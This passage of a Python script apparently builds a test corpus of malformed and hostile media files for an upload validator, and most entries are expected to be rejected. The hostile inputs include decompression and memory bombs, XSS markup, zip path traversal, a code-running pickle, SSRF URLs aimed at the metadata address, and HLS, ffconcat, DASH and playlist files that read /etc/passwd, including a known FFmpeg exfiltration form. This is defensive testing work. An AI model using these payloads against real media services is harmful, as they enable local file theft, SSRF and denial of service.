add("xpm.xpm",b"/* XPM */\nstatic char *x[]={\"90000 90000 1 1\",\"a c #000\",\"a\"};","image","reject",U,"mem","XPM 8 gigapixel")
add("fli_loop.fli",struct.pack("<IHHHHHH",128,0xaf12,1,400,400,8,3)+b"\0"*114+struct.pack("<IHH",0,0xf1fa,1)+b"\0"*8,"image","reject",U+ANY+L,"cpu","FLC frame of size 0")
# ----------------------------------------------------------------------------- not media at all
add("empty.png",b"","file","reject",L+ANY+UA+ANY+"file_download_error","parse","no byte")
add("one_byte.jpg",b"\xff","file","reject",L+ANY+U+ANY+UA,"parse","one byte")
add("zeros_1mb.png",b"\0"*(1<<20),"file","reject",U+ANY+L+ANY+UA,"parse","zeros")
add("random_256k.webp",bytes(R.randrange(256) for _ in range(1<<18)),"file","reject",U+ANY+L+ANY+UA,"parse","noise")
add("html.png",b"<!doctype html><title>x</title><script>alert(1)</script>","file","reject",U+ANY+UA,"xss","HTML named .png")
add("json.jpg",b'{"image_url":"http://169.254.169.254/"}',"file","reject",U+ANY+UA,"none","JSON named .jpg")
add("zip.png",b"PK\x03\x04\x14\0\0\0\0\0"+b"\0"*16+b"\x10\0\0\0../../../etc/cr"+b"x"*10,"file","reject",U+ANY+UA,"file","zip with a climbing name")
add("elf.mp3",b"\x7fELF\2\1\1"+b"\0"*200,"file","reject",U+ANY+UA,"exec","program named .mp3")
import pickle
class P:
    def __reduce__(s): return (print,("pickle executed",))
add("pickle.ckpt",pickle.dumps(P(),2),"file","reject",U+ANY+UA,"exec","pickle that runs code (harmless print): no loader may open it")
add("pickle_named_safetensors.safetensors",pickle.dumps(P(),2),"file","reject",U+ANY+UA,"exec","pickle named .safetensors")
add("safetensors_len_max.safetensors",struct.pack("<Q",1<<63)+b"{}","file","reject",U+ANY+UA,"mem","header length 2^63")
add("safetensors_overlap.safetensors",(lambda h: struct.pack("<Q",len(h))+h+b"\0"*8)(b'{"a":{"dtype":"F32","shape":[1073741824,1073741824],"data_offsets":[0,4]},"b":{"dtype":"F32","shape":[1],"data_offsets":[2,6]}}'),"file","reject",U+ANY+UA,"mem","overlapping tensors with an overflowing shape")
# ----------------------------------------------------------------------------- audio
def wav(sec=12.0,rate=16000,ch=1,bits=16,data=None,**o):
    if data is None:
        t=np.arange(int(sec*rate)); x=(np.sin(t*0.05)*8000*(1+np.sin(t*0.0007))/2).astype("<i2"); data=np.repeat(x[:,None],ch,1).tobytes() if bits==16 else ((x//256)+128).astype(np.uint8).tobytes()
    f=dict(tag=1,ch=ch,rate=rate,brate=rate*ch*bits//8,align=ch*bits//8,bits=bits,dlen=len(data),rlen=None); f.update(o)
    fmt=struct.pack("<HHIIHH",f["tag"],f["ch"],f["rate"],f["brate"]&0xffffffff,f["align"],f["bits"])
    body=b"WAVEfmt "+struct.pack("<I",16)+fmt+b"data"+struct.pack("<I",f["dlen"])+data
    return b"RIFF"+struct.pack("<I",f["rlen"] if f["rlen"] is not None else len(body))+body
S="audio_duration_too_short"; AL="audio_duration_too_long"; UL=UA
add("wav_ok_12s.wav",wav(),"audio","accept","-","none","control: 12 s")
add("wav_ok_stereo_44k.wav",wav(11,44100,2),"audio","accept","-","none","control: stereo")
add("wav_short_9.9s.wav",wav(9.9),"audio","reject",S,"none","below the documented 10 s")
add("wav_exact_10s.wav",wav(10.0),"audio","accept","-","none","exactly 10 s")
add("wav_empty.wav",wav(0),"audio","reject",S+ANY+UL,"none","no sample")
add("wav_rate_zero.wav",wav(1,rate=16000,data=b"\0"*32000,brate=0).replace(struct.pack("<I",16000),b"\0\0\0\0",1),"audio","reject",UL,"parse","sample rate 0")
add("wav_rate_max.wav",wav(data=b"\0"*64000).replace(struct.pack("<I",16000),b"\xff\xff\xff\xff",1),"audio","reject",UL+ANY+S,"parse","sample rate 2^32-1")
add("wav_channels_zero.wav",wav(data=b"\0"*64000,align=0).replace(b"fmt \x10\0\0\0\1\0\1\0",b"fmt \x10\0\0\0\1\0\0\0"),"audio","reject",UL,"parse","no channel")
add("wav_channels_65535.wav",wav(data=b"\0"*64000).replace(b"fmt \x10\0\0\0\1\0\1\0",b"fmt \x10\0\0\0\1\0\xff\xff"),"audio","reject",UL+ANY+S,"mem","65,535 channels")
add("wav_bits_zero.wav",wav(data=b"\0"*64000)[:34]+b"\0\0"+wav(data=b"\0"*64000)[36:],"audio","reject",UL+ANY+S,"parse","0 bits per sample")
add("wav_dlen_4gb.wav",wav(12,dlen=0xffffffff,rlen=0xffffffff),"audio","accept|reject",UL,"mem","data length 4 GB announced, 12 s present")
add("wav_dlen_short.wav",wav(12,dlen=1000),"audio","accept|reject",S,"parse","data length below the truth")
add("wav_truncated.wav",wav(30)[:100000],"audio","accept|reject",S,"parse","3 s left of 30")
add("wav_codec_unknown.wav",wav(12,tag=0x9999),"audio","reject",UL,"parse","unknown codec tag")
add("wav_1000_lists.wav",b"RIFF\xff\xff\xff\x7fWAVE"+(b"LIST"+struct.pack("<I",64)+b"INFO"+b"<script>alert(1)</script>"+b"\0"*35)*1000+wav(12)[12:],"audio","accept","-","xss","1000 LIST chunks with markup")
add("wav_24h_8k.wav",wav(1,rate=8000,bits=8,data=b"\x80"*8000,dlen=0x7fffffff,rlen=0x7fffffff),"audio","reject",S+ANY+AL+ANY+UL,"mem","announces 74 hours")
add("wav_rf64.wav",b"RF64\xff\xff\xff\xffWAVEds64"+struct.pack("<IQQQI",28,1<<62,1<<62,1<<62,0)+wav(2)[12:],"audio","reject",S+ANY+UL+ANY+AL,"mem","RF64 with 4 exabytes")
def crc8(b):
    c=0
    for x in b:
        c^=x
        for _ in range(8): c=((c<<1)^7)&255 if c&128 else (c<<1)&255
    return c
T16=[]
for i in range(256):
    c=i<<8
    for _ in range(8): c=((c<<1)^0x8005)&0xffff if c&0x8000 else (c<<1)&0xffff
    T16.append(c)
def crc16(b):
    c=0
    for x in b: c=((c<<8)&0xffff)^T16[(c>>8)^x]
    return c
def utf8n(n):
    if n<0x80: return bytes([n])
    out=[]; lim=0x3f
    while n>lim: out.insert(0,0x80|(n&0x3f)); n>>=6; lim>>=1
    return bytes([(0xff<<(7-len(out)))&0xff|n])+bytes(out)
def flac(frames,block=65535,rate=8000,ch=1,total=None,extra=b"",md5=b"\0"*16):
    ratecode={8000:4,16000:5,44100:9,48000:10,192000:3,96000:11}[rate]
    si=struct.pack(">HH",block,block)+b"\0"*6; v=(rate<<44)|((ch-1)<<41)|(15<<36)|((total if total is not None else frames*block)&((1<<36)-1)); si+=v.to_bytes(8,"big")+md5
    out=[b"fLaC",(b"\x80" if not extra else b"\0")+len(si).to_bytes(3,"big")+si,extra]
    for i in range(frames):
        h=b"\xff\xf8"+bytes([0x70|ratecode,((ch-1)<<4)|(4<<1)])+utf8n(i)+struct.pack(">H",block-1); h+=bytes([crc8(h)])
        body=h+b"\0\0\0"*ch
        out.append(body+struct.pack(">H",crc16(body)))
    return b"".join(out)
add("flac_ok_silence_16s.flac",flac(4,32768,8000),"audio","accept","-","none","16 s of constant silence built by hand")
add("flac_24h_silence.flac",flac(10547,65535,8000),"audio","reject",AL+ANY+"file_too_large","mem","24 h of silence in 170 kB")
add("flac_bomb_8ch.flac",flac(20000,65535,192000,8),"audio","reject",AL+ANY+"file_too_large"+ANY+UL,"mem","1.9 h, 8 channels at 192 kHz: 42 GB of float samples in 0.8 MB")
add("flac_total_max.flac",flac(4,32768,8000,total=(1<<36)-1),"audio","accept|reject",AL+ANY+UL,"parse","sample count 2^36-1 announced")
add("flac_picture_4gb.flac",flac(4,32768,8000,extra=b"\x86\0\0\x20"+struct.pack(">IIIIIIII",3,0xfffffff0,0,0,0,0,0,0xfffffff0)),"audio","accept|reject",UL,"mem","cover picture of 4 GB announced in 32 bytes")
add("flac_header_only.flac",flac(0,4096,8000),"audio","reject",UL+ANY+S,"parse","no frame")
add("flac_bad_crc.flac",flac(4,32768,8000)[:-1]+b"\0","audio","accept|reject",UL+ANY+S,"parse","last checksum wrong")
mf=b"\xff\xfb\x90\xc4"+b"\0"*413   # MPEG-1 layer III 128 kbit/s 44.1 kHz, silent
add("mp3_ok_silence.mp3",mf*500,"audio","accept","-","none","13 s of silent frames")
add("mp3_short.mp3",mf*100,"audio","reject",S,"none","2.6 s")
add("mp3_id3_256mb.mp3",b"ID3\x04\0\0\x7f\x7f\x7f\x7f"+mf*500,"audio","reject",UL+ANY+S,"mem","ID3 tag of 256 MB announced")
add("mp3_id3_script.mp3",b"ID3\x03\0\0\0\0\0\x2eTIT2\0\0\0\x24\0\0\0<script>alert('title')</script>\0\0\0\0"+mf*500,"audio","accept","-","xss","markup in the title")
add("mp3_xing_lies.mp3",mf[:36]+b"Xing\0\0\0\3"+struct.pack(">II",0x7fffffff,0x7fffffff)+mf[52:]+mf*20,"audio","reject",S+ANY+AL+ANY+UL,"parse","Xing header announces 650 days")
add("mp3_noise.mp3",bytes(R.randrange(256) for _ in range(200000)),"audio","reject",UL+ANY+S,"parse","noise")
add("mp3_sync_flood.mp3",b"\xff\xfb"*300000,"audio","reject",UL+ANY+S,"cpu","sync words only")
def ogg(payload,serial=1,seq=0,flags=2,gran=0,crc=None):
    segs=bytes([255]*(len(payload)//255)+[len(payload)%255]); p=b"OggS\0"+bytes([flags])+struct.pack("<qIII",gran,serial,seq,0)+bytes([len(segs)])+segs+payload
    c=0
    if crc is None:
        for x in p:
            c^=x<<24
            for _ in range(8): c=((c<<1)^0x04c11db7)&0xffffffff if c&0x80000000 else (c<<1)&0xffffffff
    else: c=crc
    return p[:22]+struct.pack("<I",c)+p[26:]
add("ogg_bad_crc.ogg",ogg(b"OpusHead\1\2\0\0\x80\xbb\0\0\0\0\0",crc=1),"audio","reject",UL,"parse","page checksum wrong")
add("ogg_opus_255ch.opus",ogg(b"OpusHead\1\xff\0\0\x80\xbb\0\0\0\0\xff"+bytes([255,255])+bytes(range(255)))+ogg(b"OpusTags\0\0\0\0\0\0\0\0",seq=1,flags=0),"audio","reject",UL,"mem","255 channels")
add("ogg_3000_streams.ogg",b"".join(ogg(b"OpusHead\1\2\0\0\x80\xbb\0\0\0\0\0",serial=i) for i in range(3000)),"audio","reject",UL,"mem","3000 logical streams")
add("ogg_tags_4gb.opus",ogg(b"OpusHead\1\1\0\0\x80\xbb\0\0\0\0\0")+ogg(b"OpusTags"+struct.pack("<I",0xfffffff0)+b"x",seq=1,flags=0),"audio","reject",UL,"mem","vendor string of 4 GB announced")
add("au_len_max.au",b".snd"+struct.pack(">IIIII",24,0xffffffff,3,8000,1)+b"\0"*4000,"audio","reject",UL+ANY+S,"parse","Sun audio, unknown length")
add("aiff_frames_max.aiff",b"FORM\0\0\0\x60AIFFCOMM\0\0\0\x12\0\1\xff\xff\xff\xff\0\x10\x40\x0e\xac\x44\0\0\0\0\0\0SSND\0\0\0\x10"+b"\0"*16,"audio","reject",UL+ANY+S,"parse","AIFF announcing 2^32 frames")
add("midi.mid",b"MThd\0\0\0\6\0\0\0\1\0\x60MTrk\0\0\0\4\0\xff\x2f\0","audio","reject",UL,"none","MIDI")
# ----------------------------------------------------------------------------- containers and playlists that read other things
def atom(t,d=b"",size=None): return struct.pack(">I",size if size is not None else 8+len(d))+t+d
FT=atom(b"ftyp",b"isom\0\0\2\0isomiso2mp41")
nest=b""
for _ in range(5000): nest=atom(b"moov",nest) if len(nest)<(1<<31) else nest
add("mp4_nested_5000.mp4",FT+nest,"audio","reject",UL,"cpu","5000 nested atoms: recursion")
add("mp4_atom_size_max.mp4",FT+atom(b"moov",b"\0"*100,size=0xfffffff0),"audio","reject",UL,"mem","4 GB atom")
add("mp4_atom_size64.mp4",FT+struct.pack(">I4sQ",1,b"moov",1<<62),"audio","reject",UL,"mem","2^62 byte atom")
add("mp4_atom_size1.mp4",FT+struct.pack(">I",1)+b"moov","audio","reject",UL,"parse","64-bit size missing")
def trak(stbl,dref=None): 
    d=dref or atom(b"dref",b"\0\0\0\0\0\0\0\1"+atom(b"url ",b"\0\0\0\1"))
    return atom(b"trak",atom(b"tkhd",b"\0"*84)+atom(b"mdia",atom(b"mdhd",b"\0"*4+b"\0"*8+struct.pack(">II",44100,44100*12)+b"\0"*4)+atom(b"hdlr",b"\0"*8+b"soun"+b"\0"*13)+atom(b"minf",atom(b"smhd",b"\0"*8)+atom(b"dinf",d)+atom(b"stbl",stbl))))
SD=atom(b"stsd",b"\0\0\0\0\0\0\0\1"+atom(b"sowt",b"\0"*6+b"\0\1"+b"\0"*8+struct.pack(">HHHHI",1,16,0,0,44100<<16)))
mv=lambda t: FT+atom(b"moov",atom(b"mvhd",b"\0"*12+struct.pack(">II",1000,12000)+b"\0"*80)+t)
add("mp4_stsz_max.m4a",mv(trak(SD+atom(b"stsz",b"\0\0\0\0\0\0\0\0"+struct.pack(">I",0x3fffffff)))),"audio","reject",UL+ANY+S,"mem","1 billion sample sizes announced")
add("mp4_stts_max.m4a",mv(trak(SD+atom(b"stts",b"\0\0\0\0"+struct.pack(">I",0x1fffffff)+b"\0\0\0\1\x7f\xff\xff\xff"))),"audio","reject",UL+ANY+S,"mem","half a billion time entries announced")
add("mp4_stsz_const_flood.m4a",mv(trak(SD+atom(b"stts",b"\0\0\0\0\0\0\0\1"+struct.pack(">II",0x7fffffff,1))+atom(b"stsc",b"\0\0\0\0\0\0\0\1"+struct.pack(">III",1,0x7fffffff,1))+atom(b"stsz",b"\0\0\0\0"+struct.pack(">II",2,0x7fffffff))+atom(b"stco",b"\0\0\0\0\0\0\0\1"+struct.pack(">I",8)))),"audio","reject",UL+ANY+S+ANY+AL,"mem","2 billion constant samples: the index alone may take tens of GB")
ext=atom(b"dref",b"\0\0\0\0\0\0\0\1"+atom(b"url ",b"\0\0\0\0file:///etc/passwd\0"))
alis=atom(b"dref",b"\0\0\0\0\0\0\0\1"+atom(b"alis",b"\0\0\0\0"+b"\0"*10+b"\3vol"+b"\0"*24+b"\0"*8+b"\x06passwd"+b"\0"*57+struct.pack(">hh",1,3)+b"\0"*26+struct.pack(">HH",2,10)+b"/etc/passwd"[1:]+struct.pack(">hH",18,11)+b"/etc/passwd\0"+b"\xff\xff\0\0"))
for nm,dr,wy in [("url",ext,"url reference to file:///etc/passwd"),("alis",alis,"alias reference to /etc/passwd")]:
    add(f"mp4_dref_{nm}.mov",mv(trak(SD+atom(b"stts",b"\0\0\0\0\0\0\0\1"+struct.pack(">II",1000,1))+atom(b"stsc",b"\0\0\0\0\0\0\0\1"+struct.pack(">III",1,1000,1))+atom(b"stsz",b"\0\0\0\0"+struct.pack(">II",2,1000))+atom(b"stco",b"\0\0\0\0\0\0\0\1"+struct.pack(">I",0)),dr)),"audio","reject",UL+ANY+S,"file","QuickTime external "+wy)
add("mkv_ebml_size_max.mka",b"\x1a\x45\xdf\xa3\x01\xff\xff\xff\xff\xff\xff\xfe"+b"\x42\x82\x88matroska","audio","reject",UL,"mem","EBML header of 2^56 bytes")
add("mkv_nested.mka",b"\x1a\x45\xdf\xa3\x8b\x42\x82\x88matroska"+b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff"*2000,"audio","reject",UL,"cpu","2000 nested segments of unknown size")
add("mkv_attachment.mka",b"\x1a\x45\xdf\xa3\x8b\x42\x82\x88matroska\x18\x53\x80\x67\xff\x19\x41\xa4\x69\x9d\x61\xa7\x9a\x46\x6e\x8c../../../x.sh"+b"\x46\x5c\x84#!sh","audio","reject",UL,"file","attachment with a climbing name")
PL="#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n"
add("hls_file.m3u8",(PL+"#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n").encode(),"audio","reject",UL,"file","HLS playlist naming a local file")
add("hls_file_named.mp3",(PL+"#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n").encode(),"audio","reject",UL,"file","the same named .mp3")
add("hls_relative.wav",(PL+"#EXTINF:10,\nwav_ok_12s.wav\n#EXT-X-ENDLIST\n").encode(),"audio","reject",UL,"file","playlist naming its neighbour in the same folder (another tenant's file)")
add("hls_http_meta.mp3",(PL+"#EXTINF:10,\nhttp://169.254.169.254/latest/meta-data/\n#EXT-X-ENDLIST\n").encode(),"audio","reject",UL,"net","playlist naming the metadata address")
add("hls_loopback.mp3",(PL+"#EXTINF:10,\nhttp://127.0.0.1:9/x.ts\n#EXT-X-ENDLIST\n").encode(),"audio","reject",UL,"net","playlist naming loopback")
add("hls_concat.mp3",(PL+"#EXTINF:10,\nconcat:http://127.0.0.1:9/h|file:///etc/passwd\n#EXT-X-ENDLIST\n").encode(),"audio","reject",UL,"file","concat protocol: exfiltration form of CVE-2016-1897/1898")
add("hls_subfile.mp3",(PL+"#EXTINF:10,\nsubfile,,start,0,end,64,,:/etc/passwd\n#EXT-X-ENDLIST\n").encode(),"audio","reject",UL,"file","subfile protocol")
add("hls_key_file.mp3",(PL+'#EXT-X-KEY:METHOD=AES-128,URI="file:///etc/passwd"\n#EXTINF:10,\ndata:video/mp2t;base64,R0dH\n#EXT-X-ENDLIST\n').encode(),"audio","reject",UL,"file","key by local file")
add("hls_master_self.m3u8",b"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhls_master_self.m3u8\n","audio","reject",UL,"cpu","playlist that includes itself")
add("hls_live_forever.m3u8",(PL+"#EXTINF:10,\ndata:,x\n").encode(),"audio","reject",UL,"cpu","live playlist without an end: reload for ever")
add("ffconcat_file.txt",b"ffconcat version 1.0\nfile /etc/passwd\n","audio","reject",UL,"file","ffconcat script")
add("ffconcat_named.mp3",b"ffconcat version 1.0\nfile 'wav_ok_12s.wav'\nfile '/etc/hosts'\n","audio","reject",UL,"file","ffconcat script named .mp3")
add("dash_file.mpd",b'<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file:///etc/passwd">]><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><BaseURL>file:///etc/passwd</BaseURL><Period><AdaptationSet mimeType="audio/mp4"><Representation id="1" bandwidth="1"><SegmentBase/></Representation></AdaptationSet></Period></MPD>',"audio","reject",UL,"file","DASH manifest with an entity and a file base")
add("sdp.mp3",b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 5004 RTP/AVP 0\n","audio","reject",UL,"net","SDP: opens UDP ports")
add("xspf.mp3",b'<?xml version="1.0"?><playlist xmlns="http://xspf.org/ns/0/"><trackList><track><location>file:///etc/passwd</location></track></trackList></playlist>',"audio","reject",UL,"file","XSPF")
add("pls.mp3",b"[playlist]\nFile1=file:///etc/passwd\nNumberOfEntries=1\n","audio","reject",UL,"file","PLS")
add("cue.wav",b'FILE "/etc/passwd" BINARY\n TRACK 01 AUDIO\n INDEX 01 00:00:00\n',"audio","reject",UL,"file","cue sheet")
def avi_gab2(text):
    sub=b"GAB2\0\2\0"+struct.pack("<I",2)+b"a\0"+b"\0\4\0"+struct.pack("<I",len(text))+text
    def c(t,d): return t+struct.pack("<I",len(d))+d+(b"\0" if len(d)&1 else b"")
    strh=lambda k,h: c(b"strh",k+h+b"\0"*12+struct.pack("<IIII",1,25,0,100)+b"\0"*16)
    strl=c(b"LIST",b"strl"+strh(b"vids",b"MJPG")+c(b"strf",struct.pack("<IiiHHIIiiII",40,320,240,1,24,0x47504a4d,0,0,0,0,0)))+c(b"LIST",b"strl"+strh(b"txts",b"\0\0\0\0")+c(b"strf",b""))
    hdrl=c(b"LIST",b"hdrl"+c(b"avih",struct.pack("<14I",40000,0,0,0x110,100,0,2,0,320,240,0,0,0,0))+strl)
    movi=c(b"LIST",b"movi"+c(b"00dc",JPG)+c(b"01tx",sub))
    body=b"AVI "+hdrl+movi; return b"RIFF"+struct.pack("<I",len(body))+body
add("avi_gab2_hls.avi",avi_gab2((PL+"#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n").encode()),"audio","reject",UL,"file","subtitle track that holds a playlist (the GAB2 trick)")
add("srt_named.mp3",b"1\n00:00:00,000 --> 00:00:01,000\n<script>alert(1)</script>\n","audio","reject",UL,"xss","subtitle named .mp3")
add("video_in_audio_field.avi",avi_gab2(b"x"),"audio","reject",UL+ANY+S,"none","picture-only file in an audio field")
add("image_in_audio_field.png",PNG,"audio","reject",UL,"none","picture in an audio field")
add("audio_in_image_field.wav",wav(1),"image","reject",U,"none","sound in an image field")

def main():
    out=sys.argv[1]; os.makedirs(out,exist_ok=True)
    names=[f[0] for f in FILES]; assert len(names)==len(set(names)), "duplicate name"
    with open(os.path.join(out,"manifest.tsv"),"w",encoding="utf-8",newline="\n") as m:
        m.write("name\tfield\texpect\terror\thazard\twhy\tsize\n")
        for n,d,fi,ex,er,hz,wy in FILES:
            with open(os.path.join(out,n),"wb") as f: f.write(d)
            m.write("\t".join((n,fi,ex,er,hz,wy,str(len(d))))+"\n")
    print(f"{len(FILES)} files, {sum(len(f[1]) for f in FILES)/1e6:.1f} MB")
if __name__=="__main__": main()
